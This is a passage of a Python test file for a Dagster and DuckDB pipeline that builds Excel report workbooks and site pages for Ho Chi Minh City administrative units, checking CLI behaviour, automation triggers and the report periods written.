        rc, _, err = run_cli("report", "--period", "2024-02", "--warehouse", f"duckdb:///{busy.resolve().as_posix()}", "--out", out)
    finally:
        holder.kill()
        holder.wait()
    assert rc == 1 and "snapshot" in err and len(err.strip().splitlines()) == 1, err
    rc, stdout, _ = run_cli("report", "--period", "2024-02", "--unit", "Q1_BN", "--warehouse", url, "--out", out,
                            "--near-due-days", "3")
    assert rc == 0 and [p.name for p in (out / "2024-02").iterdir()] == [file_name("2024-02", "Q1_BN")]
    ws = openpyxl.load_workbook(out / "2024-02" / file_name("2024-02", "Q1_BN"))["Biểu 06"]
    assert ws["K2"].value == "UBND Phường Bến Nghé" and ws["K4"].value == "Văn phòng UBND Thành phố Hồ Chí Minh"


# --------------------------------------------------------------------------- Dagster


def test_the_reports_are_requested_once_a_months_marts_are_rebuilt():
    import dagster as dg

    from cchc_etl.definitions import defs
    from cchc_etl.defs.reports import SCORED_MARTS, WORKBOOKS

    instance = dg.DagsterInstance.ephemeral()
    selection = dg.AssetSelection.keys(WORKBOOKS)
    result = dg.evaluate_automation_conditions(defs=defs, instance=instance, asset_selection=selection)
    assert result.total_requested == 0
    for key in SCORED_MARTS[:-1]:
        instance.report_runless_asset_event(dg.AssetMaterialization(asset_key=key, partition="2023-11-01"))
    result = dg.evaluate_automation_conditions(defs=defs, instance=instance, asset_selection=selection, cursor=result.cursor)
    assert result.total_requested == 0, "not while one of the month's marts is missing"
    instance.report_runless_asset_event(dg.AssetMaterialization(asset_key=SCORED_MARTS[-1], partition="2023-11-01"))
    result = dg.evaluate_automation_conditions(defs=defs, instance=instance, asset_selection=selection, cursor=result.cursor)
    assert result.get_requested_partitions(WORKBOOKS) == {"2023-11-01"}, "any month, not only the latest"
    result = dg.evaluate_automation_conditions(defs=defs, instance=instance, asset_selection=selection, cursor=result.cursor)
    assert result.total_requested == 0, "once"


def test_the_reports_asset_writes_the_periods_its_month_completes_or_extends(wh, tmp_path):
    from dagster import DagsterInstance

    from cchc_etl.defs.reports import ReportsResource, report_periods
    from cchc_etl.definitions import build_definitions

    assert report_periods(dt.date(2024, 2, 1)) == ["2024-02", "2024-Q1", "2024-H1", "2024"]
    assert report_periods(dt.date(2024, 9, 1)) == ["2024-09", "2024-Q3", "2024"]
    copy = tmp_path / "warehouse.duckdb"
    shutil.copyfile(wh, copy)
    defs = build_definitions(warehouse_url=f"duckdb:///{copy.resolve().as_posix()}")
    monthly = defs.resolve_job_def("cchc_monthly")
    assert "reports__workbooks" not in monthly.graph.node_dict, "loading and scoring a month do not wait for the reports"
    job = defs.resolve_job_def("cchc_reports")
    result = job.execute_in_process(
        partition_key="2024-02-01", instance=DagsterInstance.ephemeral(), raise_on_error=False,
        resources={"reports": ReportsResource(root=str(tmp_path / "out"), units=[CITY])})
    assert result.success
    written = sorted(p.relative_to(tmp_path / "out").as_posix() for p in (tmp_path / "out").rglob("*.xlsx"))
    assert written == sorted(f"{p}/{file_name(p, CITY)}" for p in ("2024-02", "2024-Q1", "2024-H1", "2024"))
    meta = next(e.event_specific_data.materialization.metadata for e in result.all_events
                if e.event_type_value == "ASSET_MATERIALIZATION")
    assert meta["workbooks"].value == 4 and meta["documents"].value == 4 and meta["periods_to_date"].value == "2024-Q1, 2024-H1, 2024"
    sites = {p: f"{tmp_path / 'out'}/{p}/site/index.html" for p in ("2024-02", "2024-Q1", "2024-H1", "2024")}
    assert meta["sites"].value == sites and all(Path(f).is_file() for f in sites.values())
